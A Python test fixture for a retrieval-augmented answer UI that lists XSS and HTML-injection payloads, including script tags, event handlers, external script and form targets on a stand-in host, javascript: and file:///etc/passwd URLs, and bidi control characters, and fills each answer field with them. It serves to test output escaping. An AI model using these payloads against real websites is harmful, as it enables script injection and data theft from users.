"""What a hostile article or model may write where a title, a body, an outlet or an address is expected."""

from __future__ import annotations

from dataclasses import replace

from rag.types import Abstained, Answer, Citation, Hit, Note, Span
from tests.ui_fake_qa import HARBOUR, INLAND, answer

PAYLOADS = (
    "<script>document.title='owned'</script>",
    "<img src=x onerror=\"document.title='owned'\">",
    "<img src='http://elsewhere.test/pixel.png'>",
    "<svg onload=\"document.title='owned'\"></svg>",
    '"><script src="http://elsewhere.test/x.js"></script>',
    "' onmouseover='document.title=1' x='",
    "</button></li></ol></aside></section><h1>Spoofed</h1>",
    "<form action='http://elsewhere.test/take'><input name=q autofocus><button>Go</button></form>",
    "<a href=\"javascript:document.title='owned'\">read</a>",
    "<iframe src='http://elsewhere.test/'></iframe>",
    "<style>@import url(http://elsewhere.test/x.css); body{display:none}</style>",
    "<link rel=stylesheet href='http://elsewhere.test/x.css'>",
    "<base href='http://elsewhere.test/'>",
    "<meta http-equiv=refresh content='0;url=http://elsewhere.test/'>",
    "![x](http://elsewhere.test/pixel.png) [y](javascript:alert(1))",
    "\n\n# Heading\n\n<script>document.title='owned'</script>\n\n```\n\n$$\\href{javascript:alert(1)}{x}$$",
    "${document.title='owned'} {{constructor.constructor('document.title=1')()}}",
    "&lt;script&gt;document.title='owned'&lt;/script&gt;",
    "\u202egnp.exe \u2066hidden \x1b]0;owned\x07 \x00",
    "<details open ontoggle=\"document.title='owned'\"><summary>x</summary></details>",
    "<video><source onerror=\"document.title='owned'\"></video>",
    '<button class="cite" data-reads="t1-c1" data-ask="spoof">[1]</button>',
    "<!-- ]]> --><math><mtext></mtext></math>",
)

HOSTILE_URLS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\nscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:x",
    "file:///etc/passwd",
    "//elsewhere.test/x",
    "https://",
    "https://bank.example@elsewhere.test/",
    "http://[bad",
    "https://a.example/\u202ex",
)


def hostile_answer(payload: str, question: str = "What happened?") -> Answer:
    """An answer whose every text is the payload: title, body, outlet, address, the model's words and all the rest."""
    text = f"Before {payload} after. And more."
    start = HARBOUR.start
    passage = replace(
        HARBOUR,
        title=payload,
        publisher=payload,
        text=text,
        end=start + len(text),
        url=f"https://harbour.example/{payload}",
        correction=payload,
        status="corrected",
    )
    words = f"Before {payload} after."
    return replace(
        answer(question),
        question=f"{question} {payload}",
        text=f"It says {payload} so. [1]",
        citations=(Citation(1, passage, Span(start, start + len(words), words)),),
        hits=(Hit(passage, 1.0, also=(payload,)), Hit(replace(INLAND, title=payload), 0.5)),
        notes=(Note("disputed", payload),),
        model=payload,
    )


def hostile_abstention(payload: str) -> Answer:
    """An abstention whose message is the payload."""
    return replace(hostile_answer(payload), text="", citations=(), abstained=Abstained("not_covered", payload))
